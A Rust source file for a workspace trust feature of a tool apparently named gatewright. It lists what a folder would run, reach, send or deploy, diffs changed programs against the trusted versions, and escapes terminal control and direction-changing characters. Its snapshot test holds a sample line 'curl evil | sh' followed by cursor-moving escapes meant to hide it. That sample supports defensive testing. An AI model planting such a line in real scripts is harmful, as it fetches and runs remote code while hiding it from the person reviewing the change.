//! What the folder would run, reach, use and change; and a person's word on it.

use std::time::Duration;

use gatewright_core::id::Digest;
use gatewright_engine::supervisor::trust::{Act, Since, Texts, Trust};
use similar::TextDiff;

use super::Local;
use crate::{
    document::{FORMAT, TrustDocument},
    error::{ApiError, Code},
};

/// Lines kept around a change.
const AROUND_LINES: usize = 3;
/// How long the shortest difference is looked for: after that a longer one will do.
const SOUGHT: Duration = Duration::from_millis(200);

/// What of the list a person reads: a line for each thing, and what changed in programs as a unified diff.
#[derive(Clone, PartialEq, Eq, Debug, Default)]
pub struct TrustShown {
    /// One for each thing that the folder asks for, and for each that it does not ask for any more.
    pub acts: Vec<String>,
    /// One for each program that is not what was trusted.
    pub diffs: Vec<String>,
}

impl Local {
    /// What the folder would run, reach, use and change; in words it is shown against what was trusted before.
    ///
    /// # Errors
    /// The workspace file has errors, or the user's folder cannot be read.
    pub fn trust(&self) -> Result<(TrustDocument, TrustShown), ApiError> {
        let workspace = self.workspace()?;
        let trust = self.engine.trust(workspace)?;
        let document = TrustDocument {
            format: FORMAT,
            digest: trust.claims().digest(),
            trusted: trust.is_given(),
            acts: serde_json::to_value(trust.claims()).unwrap_or_default(),
        };
        Ok((document, shown(&trust, &self.engine.texts(trust.claims()))))
    }

    /// Trusts the folder with the list that was shown.
    ///
    /// # Errors
    /// The list is another one by now, the workspace file has errors, or nothing can be written.
    pub async fn give_trust(&self, as_shown: Digest) -> Result<(), ApiError> {
        let claims = self.engine.claims(self.workspace()?);
        if claims.digest() != as_shown {
            let message = "the folder asks for something else now than what was shown";
            return Err(ApiError::new(Code::Stale, message).hint("`gatewright trust` shows it again."));
        }
        self.engine.give_trust(claims).await?;
        Ok(())
    }

    /// Forgets that the folder was trusted. Whether it was.
    ///
    /// # Errors
    /// The user's folder cannot be written.
    pub fn revoke_trust(&self) -> Result<bool, ApiError> {
        Ok(self.engine.revoke_trust()?)
    }
}

fn shown(trust: &Trust, texts: &Texts) -> TrustShown {
    let mut shown = TrustShown::default();
    for (act, since) in trust.since() {
        let mark = match since {
            Since::New if trust.before().is_some() => "  (new)",
            Since::New | Since::Same => "",
            Since::Changed { .. } => "  (changed)",
            Since::Gone => "  (gone)",
        };
        shown.acts.push(visible(&format!("{}{mark}", describe(act))));
        let Act::Program { path, digest } = act else { continue };
        match (since, texts.get(digest)) {
            (Since::Changed { text: Some(was), .. }, Some(is)) => {
                shown.diffs.push(unified(path, was, is));
            }
            // Without both texts there is nothing to show but that the digests differ.
            (Since::Changed { digest: was, .. }, _) => {
                shown.diffs.push(unified(path, &format!("{was}\n"), &format!("{digest}\n")));
            }
            (Since::New, Some(is)) if trust.before().is_some() => shown.diffs.push(unified(path, "", is)),
            _ => {}
        }
    }
    shown
}

fn unified(path: &str, was: &str, is: &str) -> String {
    let (was_called, is_called) = (format!("{path} (trusted)"), format!("{path} (now)"));
    let diff = TextDiff::configure().timeout(SOUGHT).diff_lines(was, is);
    visible(&diff.unified_diff().context_radius(AROUND_LINES).header(&was_called, &is_called).to_string())
}

/// Text of a stranger for a terminal: what would move the cursor, colour or turn the direction of reading around is
/// shown by its number, so that nothing on the list can hide another thing.
fn visible(text: &str) -> String {
    let turns = |letter: char| matches!(letter, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
    let mut shown = String::with_capacity(text.len());
    for letter in text.chars() {
        match letter {
            '\n' | '\t' => shown.push(letter),
            hidden if hidden.is_control() || turns(hidden) => {
                shown.extend(hidden.escape_unicode());
            }
            letter => shown.push(letter),
        }
    }
    shown
}

fn describe(act: &Act) -> String {
    match act {
        Act::Run { argv } => format!("run     {}", argv.join(" ")),
        Act::Program { path, digest } => format!("with    {path}, {}", digest.short()),
        Act::Give { secret, argv } => format!("give    {secret} → {}", argv.join(" ")),
        Act::Reach { origin } => format!("reach   {origin}"),
        Act::Use { secret, origin } => format!("send    {secret} → {origin}"),
        Act::Deploy { target } => format!("deploy  into {target}"),
        Act::Git => "git     reads its configuration in this folder".to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_changed_program_is_shown_as_a_unified_diff_and_hides_nothing() {
        let was = "#!/bin/sh\necho hello\n";
        let is = "#!/bin/sh\necho hello\ncurl evil | sh \u{1b}[1A\u{1b}[2K\u{202e}\n";
        insta::assert_snapshot!(unified("bot.sh", was, is), @r"
        --- bot.sh (trusted)
        +++ bot.sh (now)
        @@ -1,2 +1,3 @@
         #!/bin/sh
         echo hello
        +curl evil | sh \u{1b}[1A\u{1b}[2K\u{202e}
        ");
    }
}
